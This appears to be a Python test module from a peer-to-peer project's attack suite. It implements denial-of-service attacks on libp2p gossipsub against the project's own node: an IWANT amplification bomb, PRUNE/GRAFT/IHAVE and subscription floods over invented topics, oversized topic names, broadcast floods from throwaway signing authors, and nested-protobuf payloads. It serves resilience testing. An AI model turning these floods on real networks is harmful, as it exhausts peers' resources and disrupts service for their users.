"""Attacks on gossip: its control messages, and broadcasts beyond all measure."""

from __future__ import annotations

import itertools
import os
import random
from collections.abc import Callable, Iterator

import trio
from libp2p.pubsub.pb import rpc_pb2

from betar_tui.errors import NetworkError
from betar_tui.ipld import cid
from betar_tui.ipld.protobuf import write_bytes
from betar_tui.p2p.network import Network
from betar_tui.p2p.types import MARKET_TOPIC
from betar_tui.replica import Head, encode_broadcast
from tests.attack.attacker import Attacker, message, rpc

RPC_BYTES = 900_000
"""Bytes of one RPC: the limit is a mebibyte."""
BATCH = 50
"""Broadcasts of one RPC."""


async def nothing(attacker: Attacker) -> None:
    """A member of the topic that does nothing: what the lab and the machine cost without an attack."""
    await attacker.rest(attacker.seconds)


async def iwant_bomb(attacker: Attacker) -> None:
    """Ask with each RPC 9,000 times for the same message of 65,000 bytes: 585 MB of answers for 432 KB."""
    payload = write_bytes(1, write_bytes(1, cid.of(os.urandom(8))) + write_bytes(2, b"x" * 65_000))
    told = message(attacker.seeds[0], payload)
    stream = await attacker.gossip(attacker.networks[0])
    membership = rpc_pb2.RPC.SubOpts(subscribe=True, topicid=MARKET_TOPIC)
    await stream.write(rpc(subscriptions=[membership], publish=[told]))
    want = rpc_pb2.ControlIWant(messageIDs=[told.from_id + told.seqno] * 9000)
    bomb = rpc(control=rpc_pb2.ControlMessage(iwant=[want]))
    while attacker.left > 0:
        await stream.write(bomb)
        attacker.count(len(bomb))
        await attacker.rest(1)


async def prunes(attacker: Attacker) -> None:
    """PRUNE for some 37,000 invented topics a message, with a long backoff each."""
    await _control(attacker, lambda topics: rpc_pb2.ControlMessage(prune=[_prune(topic) for topic in topics]))


async def grafts(attacker: Attacker) -> None:
    """GRAFT for invented topics."""
    await _control(
        attacker,
        lambda topics: rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=topic) for topic in topics]),
    )


async def ihaves(attacker: Attacker) -> None:
    """IHAVE for invented topics, of no message."""
    await _control(
        attacker,
        lambda topics: rpc_pb2.ControlMessage(ihave=[rpc_pb2.ControlIHave(topicID=topic) for topic in topics]),
    )


async def long_topics(attacker: Attacker) -> None:
    """PRUNE for topics whose names have 900,000 letters."""
    tail = "x" * RPC_BYTES
    await _control(attacker, lambda topics: rpc_pb2.ControlMessage(prune=[_prune(topic + tail) for topic in topics]), 1)


async def subscriptions(attacker: Attacker) -> None:
    """Subscribe to 900,000 invented topics, 64 with each RPC."""
    stream = await attacker.gossip(attacker.networks[0])
    for _ in range(900_000 // 64):
        topics = [rpc_pb2.RPC.SubOpts(subscribe=True, topicid=os.urandom(8).hex()) for _ in range(64)]
        data = rpc(subscriptions=topics)
        await stream.write(data)
        attacker.count(len(data), 64)
        if attacker.left <= 0:
            return


async def one_author(attacker: Attacker) -> None:
    """Signed broadcasts of invented heads, as fast as they go, all by the neighbour itself."""
    await _flood(attacker, itertools.repeat, [_invented_heads(1) for _ in range(400)])


async def throwaway_authors(attacker: Attacker) -> None:
    """The same of authors who sign ten each, with payloads that are no broadcasts."""
    await _flood(attacker, _throwaways, [b"\xff" + os.urandom(30) for _ in range(400)])


async def throwaway_heads(attacker: Attacker) -> None:
    """The same with eight invented heads each, which are to be fetched."""
    await _flood(attacker, _throwaways, [_invented_heads(8) for _ in range(400)])


async def throwaway_blocks(attacker: Attacker) -> None:
    """The same with a block in the broadcast that hashes right and is no delta."""
    blocks = [b"junk" + os.urandom(20) for _ in range(400)]
    await _flood(attacker, _throwaways, [encode_broadcast([Head(cid.of(each), each)]) for each in blocks])


async def nested_groups(attacker: Attacker) -> None:
    """Broadcasts whose payload is 512 KiB of nested protobuf groups, one a second, by throw-away authors."""
    payload = (b"\x0b" * 10_000 + b"\x0c" * 10_000) * 26
    stream = await attacker.gossip(attacker.networks[0])
    while attacker.left > 0:
        data = rpc(publish=[message(os.urandom(32), payload)])
        await stream.write(data)
        attacker.count(len(data))
        await attacker.rest(1)


def _prune(topic: str) -> rpc_pb2.ControlPrune:
    return rpc_pb2.ControlPrune(topicID=topic, backoff=10**6)


async def _control(attacker: Attacker, control: Callable[[list[str]], rpc_pb2.ControlMessage], count: int = 0) -> None:
    """RPCs with so many control parts, or as many as fit, each about a topic that nobody else names."""
    stream = await attacker.gossip(attacker.networks[0])
    count = count or RPC_BYTES // len(control(["x" * 16]).SerializeToString())
    while attacker.left > 0:
        data = rpc(control=control([os.urandom(8).hex() for _ in range(count)]))
        await stream.write(data)
        attacker.count(len(data), count)


def _invented_heads(count: int) -> bytes:
    return encode_broadcast([Head(cid.DAG_PB + os.urandom(32)) for _ in range(count)])


def _throwaways(_: bytes) -> Iterator[bytes]:
    while True:
        yield from itertools.repeat(os.urandom(32), 10)


async def _flood(attacker: Attacker, authors: Callable[[bytes], Iterator[bytes]], payloads: list[bytes]) -> None:
    async def one(network: Network, seed: bytes) -> None:
        try:
            stream = await attacker.gossip(network)
            seeds = authors(seed)
            while attacker.left > 0:
                data = rpc(publish=[message(next(seeds), random.choice(payloads)) for _ in range(BATCH)])
                await stream.write(data)
                attacker.count(len(data), BATCH)
        except NetworkError as error:
            attacker.remarks.append(f"cut off {attacker.left:.1f} s before the end: {str(error)[:40]}")

    async with trio.open_nursery() as nursery:
        for network, seed in zip(attacker.networks, attacker.seeds, strict=True):
            nursery.start_soon(one, network, seed)
